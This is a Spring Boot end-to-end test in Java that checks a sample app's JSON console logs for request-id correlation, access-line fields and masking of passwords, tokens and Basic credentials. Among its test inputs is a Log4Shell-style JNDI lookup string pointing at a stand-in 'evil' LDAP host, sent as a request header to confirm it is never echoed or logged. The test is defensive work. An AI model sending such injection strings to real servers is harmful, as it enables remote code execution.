package dev.observability.sample;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import org.springframework.boot.micrometer.metrics.test.autoconfigure.AutoConfigureMetrics;
import org.springframework.boot.micrometer.tracing.test.autoconfigure.AutoConfigureTracing;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Starts the sample app as a user would run it and reads its console as a log pipeline would: one
 * JSON object per line, the request id of each request in its lines and its response header, no
 * secret anywhere.
 */
@AutoConfigureMetrics
@AutoConfigureTracing
@ExtendWith(OutputCaptureExtension.class)
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = { "spring.main.banner-mode=off", "sample.sync.initial-delay=1h",
				"server.max-http-request-header-size=64KB" })
class SampleApplicationEndToEndTests {

	private static final String JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqYW5lIiwicm9sZSI6ImFkbWluIn0.c2lnbmF0dXJlLXZhbHVlLTEyMw";

	private static final String BASIC = "Basic ZGVtb0BleGFtcGxlLmNvbTpkZW1vLXBhc3N3b3Jk";

	private static final List<String> SECRETS = List.of("hunter2-pw-9", "jane.doe@example.com", JWT,
			"c2lnbmF0dXJlLXZhbHVlLTEyMw", "ZGVtb0BleGFtcGxlLmNvbTpkZW1vLXBhc3N3b3Jk", "demo-password",
			"demo@example.com", "opaque-bearer-0042");

	private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

	private final ObjectMapper json = new ObjectMapper();

	@LocalServerPort
	int port;

	@Test
	void shouldCorrelateMaskAndLogEveryRequest(CapturedOutput output) throws Exception {
		HttpResponse<String> valid = send(get("/api/public/items/7").header("X-Request-Id", "e2e-valid-1"));
		HttpResponse<String> missing = send(get("/api/public/items/8"));
		HttpResponse<String> jndi = send(get("/api/public/items/9").header("X-Request-Id", "${jndi:ldap://evil/x}"));
		HttpResponse<String> huge = send(get("/api/public/items/10").header("X-Request-Id", "h".repeat(10_000)));
		HttpResponse<String> quoted = send(get("/api/public/items/11").header("X-Request-Id", "say\"hi\""));
		String rawNonAscii = sendRaw("GET /api/public/items/12 HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: caf\u00e9-\u2603\r\nConnection: close\r\n\r\n");
		HttpResponse<String> signup = send(HttpRequest.newBuilder(uri("/api/public/signup"))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.POST(HttpRequest.BodyPublishers.ofString("email=jane.doe%40example.com&password=hunter2-pw-9")));
		HttpResponse<String> token = send(get("/api/public/token-check").header("Authorization", "Bearer " + JWT));
		HttpResponse<String> opaque = send(get("/api/public/token-check").header("Authorization", "Bearer opaque-bearer-0042"));
		// The demo user's own credentials, logged as they came by the token-check handler.
		HttpResponse<String> basic = send(get("/api/public/token-check").header("Authorization", BASIC));
		HttpResponse<String> me = send(get("/api/me").header("Authorization", BASIC));
		HttpResponse<String> failure = send(get("/api/public/fail"));
		assertThat(send(get("/livez")).statusCode()).isEqualTo(200);
		assertThat(send(get("/readyz")).statusCode()).as("ready: the upstream answers").isEqualTo(200);
		assertThat(send(get("/actuator/prometheus")).statusCode()).as("the scrape needs credentials").isEqualTo(401);
		assertThat(send(get("/actuator/prometheus").header("Authorization", "Basic "
				+ java.util.Base64.getEncoder().encodeToString("prometheus:sample-scrape-password".getBytes())))
			.body()).contains("application_info");

		assertThat(List.of(valid, missing, jndi, huge, quoted, signup, token, opaque, basic, me)).allSatisfy(
				(response) -> assertThat(response.statusCode()).isEqualTo(200));
		assertThat(failure.statusCode()).isEqualTo(500);

		// The caller's valid id is kept; a missing or hostile one is replaced, never echoed.
		assertThat(header(valid)).isEqualTo("e2e-valid-1");
		for (HttpResponse<String> replaced : List.of(missing, jndi, huge, quoted)) {
			assertThat(header(replaced)).matches("[0-9a-f]{32}");
		}
		// Spring Security's firewall may also reject the request (400); either way the id is a fresh one.
		assertThat(rawNonAscii).containsPattern("^HTTP/1.1 (200|400) ")
			.containsPattern("(?i)X-Request-Id: [0-9a-f]{32}\r\n")
			.doesNotContain("caf");

		// Console lines are written by a background thread: wait for the access line of every request.
		List<HttpResponse<String>> logged = List.of(valid, missing, jndi, huge, quoted, signup, token, opaque, basic, me,
				failure);
		List<JsonNode> lines = await().dontCatchUncaughtExceptions().atMost(Duration.ofSeconds(10))
			.until(() -> jsonLines(output), (all) -> logged.stream()
				.allMatch((response) -> linesWithRequestId(all, header(response)).stream()
					.anyMatch((line) -> "dev.observability.access".equals(line.path("logger_name").asText()))));
		// The id in the logs is the id in the response header.
		for (HttpResponse<String> response : List.of(valid, missing, jndi, huge, quoted, me)) {
			assertThat(linesWithRequestId(lines, header(response)))
				.as("lines of request %s %s (logged ids: %s)", response.request().uri(), header(response),
						lines.stream().map((line) -> line.path("requestId").asText()).distinct().toList())
				.isNotEmpty();
		}
		assertThat(linesWithRequestId(lines, "e2e-valid-1")).extracting((line) -> line.get("message").asText())
			.contains("Looking up item 7");

		// One access line per request, with its fields.
		JsonNode access = accessLine(lines, header(valid));
		assertThat(access.get("method").asText()).isEqualTo("GET");
		assertThat(access.get("path").asText()).isEqualTo("/api/public/items/{id}");
		assertThat(access.get("status").asInt()).isEqualTo(200);
		assertThat(access.get("duration_ms").isNumber()).isTrue();
		assertThat(access.get("bytes").asLong()).isEqualTo(valid.body().getBytes(StandardCharsets.UTF_8).length);
		assertThat(access.get("service").asText()).isEqualTo("sample-app");
		assertThat(access.has("traceId")).isTrue();
		assertThat(accessLine(lines, header(failure)).get("status").asInt()).isEqualTo(500);

		// The authenticated user is in the MDC, hashed because the name is an email address.
		JsonNode meAccess = accessLine(lines, header(me));
		assertThat(meAccess.get("userId").asText()).matches("[0-9a-f]{16}");
		assertThat(linesWithRequestId(lines, header(me))).extracting((line) -> line.path("userId").asText())
			.contains(meAccess.get("userId").asText());

		// The careless log lines were masked, and no secret appears anywhere in the output.
		assertThat(linesWithRequestId(lines, header(signup))).extracting((line) -> line.get("message").asText())
			.contains("Signup attempt email=[Filtered] password=[Filtered]");
		assertThat(linesWithRequestId(lines, header(basic))).extracting((line) -> line.get("message").asText())
			.contains("Token check with header Basic [Filtered]");
		assertThat(output.getAll()).doesNotContain(SECRETS.toArray(String[]::new));
		assertThat(output.getAll()).doesNotContain("${jndi", "say\"hi\"", "h".repeat(200), "caf\u00e9");
	}

	private List<JsonNode> jsonLines(CapturedOutput output) throws Exception {
		List<JsonNode> lines = new ArrayList<>();
		String out = output.getOut();
		// Lines before Spring Boot initialises logging come from the test framework's own set-up.
		for (String line : out.substring(out.indexOf("{\"@timestamp\"")).split("\\R")) {
			if (line.isBlank()) {
				continue;
			}
			assertThat(line).as("every console line is a JSON object").startsWith("{");
			lines.add(this.json.readTree(line));
		}
		return lines;
	}

	private static List<JsonNode> linesWithRequestId(List<JsonNode> lines, String requestId) {
		return lines.stream().filter((line) -> requestId.equals(line.path("requestId").asText(null))).toList();
	}

	private static JsonNode accessLine(List<JsonNode> lines, String requestId) {
		List<JsonNode> access = linesWithRequestId(lines, requestId).stream()
			.filter((line) -> "dev.observability.access".equals(line.get("logger_name").asText()))
			.toList();
		assertThat(access).as("access lines of request %s", requestId).hasSize(1);
		return access.get(0);
	}

	private static String header(HttpResponse<String> response) {
		return response.headers().firstValue("X-Request-Id").orElseThrow();
	}

	private URI uri(String path) {
		return URI.create("http://localhost:" + this.port + path);
	}

	private HttpRequest.Builder get(String path) {
		return HttpRequest.newBuilder(uri(path)).GET();
	}

	private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
		return this.http.send(request.build(), HttpResponse.BodyHandlers.ofString());
	}

	private String sendRaw(String request) throws Exception {
		try (Socket socket = new Socket("localhost", this.port)) {
			OutputStream out = socket.getOutputStream();
			out.write(request.getBytes(StandardCharsets.UTF_8));
			out.flush();
			InputStream in = socket.getInputStream();
			ByteArrayOutputStream response = new ByteArrayOutputStream();
			in.transferTo(response);
			return response.toString(StandardCharsets.ISO_8859_1);
		}
	}

}
